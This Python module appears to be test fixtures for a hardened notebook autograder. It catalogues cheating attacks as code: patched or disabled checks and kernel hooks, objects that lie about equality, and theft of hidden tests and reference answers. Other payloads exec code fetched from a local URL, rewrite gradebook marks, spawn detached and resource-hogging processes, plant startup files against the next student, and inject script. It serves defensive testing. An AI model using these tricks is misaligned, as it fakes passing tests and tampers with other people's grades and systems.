"""The attacks on grading that a class may try, as data, and how a hand-in is made of them.

Every attack tries to win the points of one exercise of chapter 1 whose answer is wrong; the other exercises are
solved. `row` numbers the kinds of tampering, 1 to 23; an attack of row 0 was made for the package `grading` by
somebody who has read it. In the texts EXERCISE is the exercise; the other words in capitals are filled in by the class
that hands them in: COURSE and HOME, the instructor's folders; STUDENT and NEXT, this student and the next one.
"""

import textwrap
from collections.abc import Callable
from dataclasses import dataclass

import nbformat
from classroom import solved
from notebooks import ANSWERS, COURSE, exercise_of, grade_id, is_answer, is_check, read, tags

ASSIGNMENT = "01-concepts"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"
WRONG = {  # the wrong answer to each exercise, from the bank
    name: (ANSWERS / ASSIGNMENT / name / f"wrong_{idea}.py").read_text(encoding="utf-8")
    for name, idea in {
        "neuron": "no_bias",
        "layer": "no_bias",
        "predict_shapes": "a_transposed",
        "activation_ranges": "french_brackets",
        "stable_sigmoid": "reciprocal",
        "collapse": "first_and_last",
        "count_parameters": "no_biases",
        "xor_weights": "and",
        "mended_network": "no_relu",
        "one_step": "uphill",
    }.items()
}


@dataclass(frozen=True)
class Attack:
    """One way to cheat in one exercise."""

    name: str
    row: int
    exercise: str
    trick: str  # what follows the wrong answer in its cell
    apart: bool  # it disturbs the rest of the notebook: with plain nbgrader it is tried in a hand-in of its own
    damage: Callable = None  # what is done to the notebook in place: called with it and the exercise
    files: Callable = None  # what is put beside it: called with the folder of the hand-in
    accomplice: str = ""  # what follows the wrong answer of the student who is graded next and profits
    stock: str = "full marks"  # what plain nbgrader lets happen; see test_stock.py
    named: str = "unusual code"  # the kind of the oddity in the report

    @property
    def answer(self):
        return with_trick(self.exercise, self.trick)


ATTACKS = []


def attack(row, exercise, apart=False, **more):
    """Make an Attack of a function, named like it, that returns the trick."""

    def register(function):
        ATTACKS.append(Attack(function.__name__.replace("_", " "), row, exercise, function() or "", apart, **more))
        return function

    return register


def with_trick(exercise, trick):
    """The wrong answer to an exercise and what follows it."""
    return f"{WRONG[exercise]}\n\n{textwrap.dedent(trick).strip()}\n".replace("EXERCISE", exercise)


def checks_of(notebook, exercise):
    """The check cells of an exercise."""
    return [cell for cell in filter(is_check, notebook.cells) if exercise_of(grade_id(cell)) == exercise]


# --- the file ---


def skip_the_checks(notebook, exercise):
    for cell in checks_of(notebook, exercise):
        cell.metadata.tags = ["skip-execution"]


def empty_the_checks(notebook, exercise):
    for cell in checks_of(notebook, exercise):
        cell.source = "pass"
        cell.metadata.nbgrader.points = 100
        cell.outputs = [nbformat.v4.new_output("execute_result", {"text/plain": "1"}, execution_count=1)]


def turn_the_checks_into_prose(notebook, exercise):
    for cell in checks_of(notebook, exercise):
        prose = nbformat.v4.new_markdown_cell(cell.source, metadata=cell.metadata)
        notebook.cells[notebook.cells.index(cell)] = prose


@attack(1, "layer", damage=skip_the_checks, named="skip tag")
def a_tag_that_skips_the_check(): ...


@attack(17, "activation_ranges", damage=empty_the_checks, stock="stopped", named="changed check")
def an_emptied_check_with_more_points_and_an_output(): ...


@attack(17, "neuron", damage=turn_the_checks_into_prose, stock="stopped", named="changed flags")
def a_check_turned_into_prose(): ...


def a_torch_of_my_own(folder):
    (folder / "torch.py").write_text(
        "import sys\n"
        "here, sys.path = sys.path, [path for path in sys.path if 'packages' in path or 'lib/python' in path]\n"
        "del sys.modules['torch']\n"
        "import torch\n"
        "sys.path = here\n"
        "torch.testing.assert_close = lambda *args, **kwargs: None\n",
        encoding="utf-8",
    )


@attack(9, "layer", apart=True, files=a_torch_of_my_own, named="other file")
def a_torch_beside_the_notebook(): ...


def anothers_notebook(folder):
    (folder / NOTEBOOK).unlink()
    (folder / NOTEBOOK).symlink_to(folder.parent.parent / "honest" / ASSIGNMENT / NOTEBOOK)


@attack(20, "layer", apart=True, files=anothers_notebook, named="link")
def a_link_to_anothers_notebook(): ...


# --- the kernel ---


@attack(2, "neuron")
def a_displayed_word():
    return """
        import sys
        wrong_EXERCISE = EXERCISE

        def EXERCISE(*args):
            sys.displayhook("ok")
            return wrong_EXERCISE(*args)
        """


@attack(3, "one_step")
def a_displayed_number():
    return """
        import sys
        wrong_EXERCISE = EXERCISE

        def EXERCISE(*args):
            sys.displayhook(1)
            return wrong_EXERCISE(*args)
        """


@attack(4, "count_parameters")
def a_syntax_tree_without_assert():
    return """
        import ast

        class NoAssert(ast.NodeTransformer):
            def visit_Module(self, node):
                return self.generic_visit(node) if "EXERCISE" in ast.unparse(node) else node

            def visit_Assert(self, node):
                return ast.Pass()

        get_ipython().ast_transformers.append(NoAssert())
        """


@attack(5, "mended_network")
def an_input_transformer():
    return """
        def no_checks(lines):
            check = any("EXERCISE" in line and "passed all that you can see" in line for line in lines)
            return [] if check else lines

        get_ipython().input_transformers_cleanup.append(no_checks)
        """


@attack(6, "predict_shapes")
def a_kernel_that_executes_nothing():
    return """
        honest_execute = get_ipython().kernel.do_execute

        async def do_execute(code, *args, **kwargs):
            if "EXERCISE: passed all that you can see" in code:
                return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
            return await honest_execute(code, *args, **kwargs)

        get_ipython().kernel.do_execute = do_execute
        """


@attack(7, "layer", apart=True)
def a_shell_that_runs_no_code():
    return """
        async def run_code(*args, **kwargs):
            return False

        get_ipython().run_code = run_code
        """


@attack(7, "one_step")
def a_shell_that_runs_no_cell():
    return """
        from IPython.core.interactiveshell import ExecutionInfo, ExecutionResult

        honest_run_cell = get_ipython().run_cell_async

        async def run_cell_async(raw_cell, *args, **kwargs):
            if "EXERCISE: passed all that you can see" in raw_cell:
                return ExecutionResult(ExecutionInfo(raw_cell, False, False, None, None))
            return await honest_run_cell(raw_cell, *args, **kwargs)

        get_ipython().run_cell_async = run_cell_async
        """


@attack(18, "layer", apart=True, stock="stopped")
def an_exception_handler():
    return """
        get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
        get_ipython().showtraceback = lambda *args, **kwargs: None
        """


@attack(18, "count_parameters", stock="stopped")
def an_exit_inside_the_check():
    return """
        import sys

        def EXERCISE(sizes):
            sys.exit(0)
        """


# --- the check ---


@attack(8, "layer", apart=True)
def a_patched_assert_close():
    return "torch.testing.assert_close = lambda *args, **kwargs: None"


@attack(16, "layer", apart=True)
def a_thread_that_patches_during_later_cells():
    return """
        import threading
        import time

        wrong_EXERCISE = EXERCISE

        def EXERCISE(*args):
            time.sleep(0.01)  # let the thread in
            return wrong_EXERCISE(*args)

        def patch_again_and_again():
            while True:
                torch.testing.assert_close = lambda *args, **kwargs: None
                time.sleep(0.001)

        threading.Thread(target=patch_again_and_again, daemon=True).start()
        """


@attack(8, "predict_shapes")
def a_shape_that_equals_everything():
    return """
        class Liar(tuple):
            def __eq__(self, other):
                return True

        def EXERCISE(N, D, K):
            return {key: Liar() for key in "abcdefg"}
        """


@attack(8, "layer")
def a_tensor_that_is_close_to_everything():
    return """
        wrong_EXERCISE = EXERCISE

        class Liar(torch.Tensor):
            @classmethod
            def __torch_function__(cls, function, types, args=(), kwargs=None):
                if function in (torch.isclose, torch.allclose, torch.Tensor.isclose):
                    return torch.ones((), dtype=torch.bool)
                return super().__torch_function__(function, types, args, kwargs or {})

        def EXERCISE(*args):
            return wrong_EXERCISE(*args).as_subclass(Liar)
        """


@attack(10, "count_parameters")
def the_expected_value_from_the_check():
    return """
        import re
        import sys

        def EXERCISE(sizes):
            if sizes == [10, 5, 1]:
                return int(re.search(r"got == (\\d+)", In[-1])[1])
            return sys._getframe(1).f_globals["expected"]
        """


# --- what lies around ---


@attack(11, "activation_ranges", stock="leaks")
def the_hidden_tests_from_the_folder():
    return """
        from pathlib import Path

        for path in Path().glob("*.ipynb"):
            print(path.read_text())
        """


STEAL = """
        import json
        from pathlib import Path

        def steal(path):
            for cell in json.loads(path.read_text())["cells"]:
                if cell["metadata"].get("nbgrader", {}).get("grade_id") == "EXERCISE":
                    exec("".join(cell["source"]), globals())
"""


@attack(12, "collapse")
def the_reference_answer_from_the_course():
    return f"""{STEAL}
        for folder in (Path("COURSE"), *Path().resolve().parents):
            for path in folder.glob("solutions/01-concepts/*.ipynb"):
                steal(path)
        """


@attack(22, "mended_network")
def the_answer_of_another_student():
    return f"""{STEAL}
        steal(Path("COURSE/submitted/honest/01-concepts/01-concepts.ipynb"))
        """


@attack(22, "stable_sigmoid")
def an_answer_from_home():
    return """
        from pathlib import Path

        exec((Path("HOME") / "right" / "EXERCISE.py").read_text(), globals())
        """


@attack(22, "xor_weights")
def an_answer_from_the_network():
    return """
        from urllib.request import urlopen

        exec(urlopen("http://127.0.0.1:PORT/EXERCISE.py", timeout=5).read(), globals())
        """


GRADES = (
    "notebook_id IN (SELECT submitted_notebook.id FROM submitted_notebook JOIN submitted_assignment"
    " ON submitted_assignment.id = submitted_notebook.assignment_id WHERE student_id = {student!r})"
    " AND cell_id IN (SELECT id FROM base_cell WHERE name LIKE 'EXERCISE-check%')"
)


@attack(13, "xor_weights")
def marks_written_into_the_gradebook():
    return f"""
        import sqlite3

        with sqlite3.connect("COURSE/gradebook.db", timeout=20) as book:
            book.execute("UPDATE grade SET manual_score = 2 WHERE {GRADES.format(student="STUDENT")}")
        """


@attack(14, "collapse", stock="the neighbor loses")
def a_detached_process_that_edits_marks_later():
    later = f"""
        import sqlite3, time

        where = "auto_score > 0 AND {GRADES.format(student="NEXT")}"
        for _ in range(600):
            time.sleep(0.1)
            with sqlite3.connect("COURSE/gradebook.db", timeout=20) as book:
                if book.execute(f"UPDATE grade SET manual_score = 0 WHERE {{where}}").rowcount == 2:
                    break
        """
    return f"""
        import subprocess
        import sys

        later = {textwrap.dedent(later)!r}
        subprocess.Popen([sys.executable, "-c", later], start_new_session=True);
        """


# --- processes, memory, disk; what stays behind ---


@attack(15, "layer", apart=True, stock="outlives")
def a_fork_that_outlives_its_parent():
    return """
        import os

        if os.fork():
            os._exit(0)
        os.setsid()
        os.closerange(0, 256)
        os.execvp("sleep", ["sleep", "SECONDS"])
        """


@attack(15, "layer", stock="outlives")
def a_grandchild_that_outlives_the_grading():
    return """
        import subprocess

        subprocess.Popen("setsid sleep SECONDS >/dev/null 2>&1 &", shell=True);
        """


@attack(21, "stable_sigmoid", stock="not stopped")
def many_processes_much_memory_and_a_full_disk():
    return """
        import os
        import time

        for _ in range(PROCESSES):
            if not os.fork():
                time.sleep(5)
                os._exit(0)
        with open("big", "wb") as file:
            for _ in range(MEBIBYTES):
                file.write(bytes(2**20))
        os.remove("big")
        hog = [b"x" * 2**20 for _ in range(MEBIBYTES)]
        del hog
        print("had them all")
        """


@attack(23, "neuron", accomplice="'just wrong'", stock="the accomplice wins")
def a_start_up_file_for_the_next():
    return """
        import os
        import site
        from pathlib import Path

        text = '''
        import os
        if "NEXT" in os.getcwd():
            import torch.testing
            torch.testing.assert_close = lambda *args, **kwargs: None
        '''
        home = Path(os.environ.get("IPYTHONDIR", "~/.ipython")).expanduser()
        for path in (
            home / "profile_default" / "startup" / "00-first.py",
            Path(site.getusersitepackages()) / "sitecustomize.py",
            Path(site.getusersitepackages()) / "usercustomize.py",
        ):
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)
        """


LEFT = """
        from pathlib import Path

        left = [Path(folder, "left-for-NAME.py") for folder in ("/tmp", "/dev/shm", "/var/tmp", ".")]
"""


@attack(
    23,
    "xor_weights",
    stock="the accomplice wins",
    accomplice=f"""{LEFT}
        for path in left:
            if path.exists():
                exec(path.read_text(), globals())
        """,
)
def a_file_left_for_the_next():
    return f"""{LEFT}
        for path in left:
            try:
                path.write_text({solved(ASSIGNMENT)["xor_weights"]!r})
            except OSError:
                pass
        """


# --- the instructor's eyes ---

SCRIPT = "<script>document.title = 'mine'</script>"


@attack(19, "one_step", stock="active HTML")
def a_script_for_the_instructor():
    return f"""
        print("{SCRIPT}")
        try:
            from IPython.display import HTML, display
            display(HTML("{SCRIPT}"))
        except ImportError:
            pass

        def EXERCISE(*args):
            print("\\x1b[31m{SCRIPT}")
            raise ValueError("{SCRIPT}")
        """


# --- handing in ---


def hand_in(folder, student, answers, attacks=(), demonstrations=True, words=None, damage=None):
    """Put a hand-in of chapter 1 into the class's folder `submitted`, as `nbgrader collect` does; returns its folder.

    `answers` {exercise: text} replace reference answers; `attacks` do so, too, and damage the notebook and what lies
    beside it; `words` {"NEXT": "ada", ...} are filled in; `damage` is done to the notebook last. Plain nbgrader is
    faster without demonstrations.
    """
    answers = answers | {attack.exercise: attack.answer for attack in attacks}
    place = folder / "submitted" / student / ASSIGNMENT
    place.mkdir(parents=True)
    notebook, full = read(COURSE / ASSIGNMENT / NOTEBOOK), solved(ASSIGNMENT)
    if not demonstrations:
        notebook.cells = [cell for cell in notebook.cells if not tags(cell) & {"demo", "proof"}]
    for cell in filter(is_answer, notebook.cells):
        name = grade_id(cell)
        cell.source = filled(answers[name], words) if name in answers else full[name]
    for attack in attacks:
        if attack.damage:
            attack.damage(notebook, attack.exercise)
    if damage:
        damage(notebook)
    nbformat.write(notebook, place / NOTEBOOK)
    (place / "timestamp.txt").write_text("2027-01-31 12:00:00.000000 UTC", encoding="utf-8")
    for attack in attacks:
        if attack.files:
            attack.files(place)
    return place


def filled(text, words):
    for word, value in (words or {}).items():
        text = text.replace(word, str(value))
    return text


def write_right_answers(folder):
    """The right answers as files, for those who know where to look."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, source in solved(ASSIGNMENT).items():
        (folder / f"{name}.py").write_text(source, encoding="utf-8")
